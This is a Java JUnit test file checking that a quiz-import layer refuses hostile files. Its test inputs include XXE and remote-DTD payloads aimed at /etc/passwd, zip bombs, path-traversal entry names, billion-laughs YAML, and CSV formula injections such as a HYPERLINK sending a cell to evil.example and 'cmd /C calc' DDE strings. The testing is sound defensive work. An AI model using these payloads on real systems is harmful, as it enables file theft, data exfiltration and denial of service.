package io.greenroom.catalog.exchange;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.greenroom.platform.problem.Problem.FieldError;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Objects;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.EnumSource.Mode;
import org.junit.jupiter.params.provider.ValueSource;

class HostileFilesTest {
    // --- Encodings

    @ParameterizedTest
    @EnumSource(value = Format.class, mode = Mode.EXCLUDE, names = "QTI3")
    void namesTheByteThatIsNoUtf8(Format format) {
        var first =
                switch (format) {
                    case NATIVE_JSON -> "{    \n";
                    case MOODLE_XML -> "<quiz>";
                    default -> "title\n";
                };
        var refused =
                refusal(format, (first + "\"Größe\"\n").getBytes(StandardCharsets.ISO_8859_1));
        assertThat(refused.kind()).isEqualTo(Refused.Kind.NOT_UTF_8);
        assertThat(refused.detail()).contains("byte 9 (line ").contains("Latin-1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "windows-1252"})
    void refusesOtherEncodings(String name) {
        for (var format : Format.values()) {
            var refused = refusal(format, "“Größe”".getBytes(Charset.forName(name)));
            assertThat(refused.kind())
                    .as("%s as %s", name, format)
                    .isEqualTo(Refused.Kind.NOT_UTF_8);
        }
    }

    @ParameterizedTest
    @ValueSource(
            ints = {
                0xc080,
                0xc1bf,
                0xe08080,
                0xeda080,
                0xf0808080,
                0xf4908080,
                0xf5808080,
                0xff,
                0x80
            })
    void refusesWhatOnlyLooksLikeUtf8(int sequence) {
        var out = new ByteArrayOutputStream();
        out.writeBytes("title\n".getBytes(StandardCharsets.UTF_8));
        for (int shift = 24; shift >= 0; shift -= 8) {
            if (sequence >>> shift != 0) {
                out.write(sequence >>> shift);
            }
        }
        out.write('\n');
        assertThat(refusal(Format.CSV, out.toByteArray()).kind()).isEqualTo(Refused.Kind.NOT_UTF_8);
    }

    @Test
    void refusesACharacterThatIsCutOff() {
        var text = "title\nGröße 🙂".getBytes(StandardCharsets.UTF_8);
        var refused = refusal(Format.CSV, Arrays.copyOf(text, text.length - 1));
        assertThat(refused.detail()).contains("ends within a character");
    }

    @Test
    void takesAByteOrderMarkOfUtf8() throws IOException {
        assertThat(RoundTripTest.read(Format.CSV, bytes("\ufefftitle\nA question\n"))).hasSize(1);
        assertThat(RoundTripTest.read(Format.MARKDOWN, bytes("\ufeff# A question\n"))).hasSize(1);
    }

    @Test
    void refusesAnotherDeclaredEncoding() {
        var refused =
                refusal(
                        Format.MOODLE_XML,
                        bytes("<?xml version='1.0' encoding='ISO-8859-1'?><quiz/>"));
        assertThat(refused.kind()).isEqualTo(Refused.Kind.NOT_UTF_8);
        assertThat(refused.detail()).contains("ISO-8859-1");
    }

    // --- Compressed

    @ParameterizedTest
    @EnumSource(Format.class)
    void refusesWhatIsCompressed(Format format) throws IOException {
        var gzip = new ByteArrayOutputStream();
        try (var out = new GZIPOutputStream(gzip)) {
            out.write(new byte[1_000_000]);
        }
        assertThat(refusal(format, gzip.toByteArray()).kind()).isEqualTo(Refused.Kind.COMPRESSED);
        if (format != Format.QTI3) {
            assertThat(refusal(format, zip("a.xml", new byte[10])).kind())
                    .isEqualTo(Refused.Kind.COMPRESSED);
        }
    }

    /** 200 MB of nothing in 200 kB: reading stops where a file may not go on. */
    @ParameterizedTest
    @ValueSource(strings = {"bomb.xml", "bomb.bin"})
    void stopsAZipBombAtTheLimit(String name) throws IOException {
        var zip = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry(name));
            var blank = new byte[1024 * 1024];
            Arrays.fill(blank, (byte) ' ');
            for (int i = 0; i < 200; i++) {
                out.write(blank);
            }
        }
        assertThat(refusal(Format.QTI3, zip.toByteArray()).kind())
                .isEqualTo(Refused.Kind.TOO_LARGE);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../evil.xml",
                "items/../../evil.xml",
                "/etc/passwd.xml",
                "C:/evil.xml",
                "..\\evil.xml",
                "a\u0000.xml",
                "a\n.xml"
            })
    void refusesNamesThatLeadOutOfThePackage(String name) throws IOException {
        var refused = refusal(Format.QTI3, zip(name, bytes("<x/>")));
        assertThat(refused.kind()).isIn(Refused.Kind.FORBIDDEN, Refused.Kind.UNREADABLE);
        assertThat(refused.detail()).doesNotContain("\n");
    }

    // --- XML

    @ParameterizedTest
    @EnumSource(
            value = Format.class,
            names = {"MOODLE_XML", "QTI3"})
    void refusesTypeDefinitionsAndEntities(Format format) {
        for (var xml :
                new String[] {
                    "<!DOCTYPE quiz [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><quiz>&x;</quiz>",
                    "<!DOCTYPE quiz SYSTEM \"http://127.0.0.1:1/evil.dtd\"><quiz/>",
                    "<!DOCTYPE q [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><quiz>&b;</quiz>",
                    "<!DOCTYPE q [<!ENTITY % p SYSTEM \"file:///etc/passwd\"> %p;]><quiz/>",
                    "<quiz><question"
                            + " type='essay'><name><text>&evil;</text></name></question></quiz>",
                    "<qti-assessment-item identifier='x' title='&evil;'/>",
                    "<quiz xmlns:xi='http://www.w3.org/2001/XInclude'><question"
                            + " type='essay'><name><xi:include href='/etc/passwd'"
                            + " parse='text'/></name></question></quiz>"
                }) {
            var refused = refusal(format, bytes(xml));
            assertThat(refused.detail()).doesNotContain("root:");
            if (xml.contains("DOCTYPE")) {
                assertThat(refused.kind()).as(xml).isEqualTo(Refused.Kind.FORBIDDEN);
            }
        }
    }

    @Test
    void refusesElementsThatAreNestedTooDeep() {
        var refused = refusal(Format.MOODLE_XML, bytes("<quiz><question>" + "<a>".repeat(100_000)));
        assertThat(refused.kind()).isEqualTo(Refused.Kind.FORBIDDEN);
    }

    // --- YAML and JSON

    @Test
    void refusesAliases() {
        var yaml =
                """
                pack: {id: laughs, title: A billion laughs}
                a: &a [x, x, x, x, x, x, x, x, x]
                b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
                questions: []
                """;
        var question =
                """
                pack: {id: laughs, title: A billion laughs}
                questions:
                  - &a {id: one}
                  - *a
                """;
        var refused = refusal(Format.NATIVE_YAML, bytes(question));
        assertThat(refused.kind()).isEqualTo(Refused.Kind.FORBIDDEN);
        assertThat(refused.detail()).contains("alias").contains("4");
        assertThat(refusal(Format.NATIVE_YAML, bytes(yaml)).kind())
                .isEqualTo(Refused.Kind.FORBIDDEN);
    }

    @ParameterizedTest
    @EnumSource(
            value = Format.class,
            names = {"NATIVE_YAML", "NATIVE_JSON"})
    void refusesWhatIsNestedTooDeep(Format format) {
        var refused = refusal(format, bytes("{\"questions\": [" + "[".repeat(100_000)));
        assertThat(refused.kind()).isEqualTo(Refused.Kind.UNREADABLE);
        assertThat(refused.detail()).containsIgnoringCase("depth");
    }

    @Test
    void refusesAFieldThatComesTwice() {
        assertThat(
                        refusal(
                                        Format.NATIVE_JSON,
                                        bytes("{\"questions\": [{\"id\": \"a\", \"id\": \"b\"}]}"))
                                .detail())
                .contains("Duplicate");
    }

    // --- Size

    @ParameterizedTest
    @EnumSource(
            value = Format.class,
            mode = Mode.EXCLUDE,
            names = {"QTI3"})
    void refusesAQuestionWithoutEnd(Format format) {
        var begin =
                switch (format) {
                    case NATIVE_JSON, NATIVE_YAML ->
                            "{\"pack\": {}, \"questions\": [{\"topics\": [";
                    case CSV -> "title,prompt\n\"a\",\"";
                    case MARKDOWN -> "# A title\n";
                    case MOODLE_XML -> "<quiz><question type='essay'><tags>";
                    case GIFT -> "::title::";
                    case QTI3 -> throw new IllegalStateException();
                };
        var again =
                switch (format) {
                    case NATIVE_JSON, NATIVE_YAML -> "\"a\", ";
                    case MOODLE_XML -> "<tag><text>a</text></tag>";
                    default -> "words and\n";
                };
        var endless = new Endless(begin, again);
        var refused = refusal(format, endless);
        assertThat(refused.kind()).isIn(Refused.Kind.TOO_LARGE, Refused.Kind.UNREADABLE);
        assertThat(endless.given).isLessThan(2L * Bounds.QUESTION_BYTES);
    }

    @Test
    void refusesAZipOfManyFilesAndOfNone() throws IOException {
        assertThat(refusal(Format.QTI3, bytes("PK")).kind()).isEqualTo(Refused.Kind.UNREADABLE);
        var zip = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(zip)) {
            for (int i = 0; i <= Bounds.ENTRIES; i++) {
                out.putNextEntry(new ZipEntry("f" + i));
            }
        }
        assertThat(refusal(Format.QTI3, zip.toByteArray()).kind())
                .isEqualTo(Refused.Kind.TOO_LARGE);
    }

    // --- Formulas

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "\nx",
                "'=1+1",
                "''=x",
                "＝1",
                "'",
                "'a",
                "a=1",
                ""
            })
    void disarmsCellsReversibly(String cell) {
        var disarmed = CsvCodec.disarmed(cell);
        assertThat(CsvCodec.armed(disarmed)).isEqualTo(cell);
        assertThat(disarmed).doesNotMatch("(?s)[=+\\-@\\t\\r\\n＝＋－＠].*");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")",
                "\t=1+1",
                "＝1+1",
                "@SUM(A1:A9)",
                "-2+3+cmd|' /C calc'!A0",
                "+cmd|' /C calc'!A0"
            })
    void refusesAFormulaInACell(String cell) throws IOException {
        assertThat(errorsOf(cell))
                .singleElement()
                .extracting(FieldError::detail)
                .asString()
                .startsWith("The column \"prompt\" has a formula.");
        assertThat(errorsOf(CsvCodec.disarmed(cell))).as("as an export writes it").isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"- a list\n- of two", "@lru_cache(maxsize=None)\ndef f(n):", "'=1+1"})
    void takesATextForAText(String cell) throws IOException {
        assertThat(errorsOf(cell)).isEmpty();
    }

    private static List<FieldError> errorsOf(String cell) throws IOException {
        var csv = "title,prompt\nA title,\"" + cell.replace("\"", "\"\"") + "\"\n";
        try (var reading = Codecs.of(Format.CSV).read(new ByteArrayInputStream(bytes(csv)))) {
            return Objects.requireNonNull(reading.next()).errors();
        }
    }

    private static byte[] zip(String name, byte[] content) throws IOException {
        var zip = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(zip)) {
            out.putNextEntry(new ZipEntry(name));
            out.write(content);
        }
        return zip.toByteArray();
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static Refused refusal(Format format, byte[] file) {
        return refusal(format, new ByteArrayInputStream(file));
    }

    private static Refused refusal(Format format, InputStream file) {
        var refused =
                catchThrowableOfType(
                        Refused.class,
                        () -> {
                            try (var reading = Codecs.of(format).read(file)) {
                                while (reading.next() != null) {
                                    // Up to the refusal.
                                }
                            }
                        });
        assertThat(refused).as("refusal by %s", format).isNotNull();
        return refused;
    }

    /** Goes on for ever, and counts what was taken of it. */
    private static final class Endless extends InputStream {
        private final InputStream first;
        private final byte[] again;
        private long given;

        Endless(String first, String again) {
            this.first = new ByteArrayInputStream(bytes(first));
            this.again = bytes(again);
        }

        @Override
        public int read() throws IOException {
            int read = first.read();
            return read >= 0 ? read : again[(int) (given++ % again.length)];
        }

        @Override
        public int read(byte[] target, int offset, int length) throws IOException {
            for (int i = 0; i < Math.min(length, 4096); i++) {
                target[offset + i] = (byte) read();
            }
            return Math.min(length, 4096);
        }
    }
}
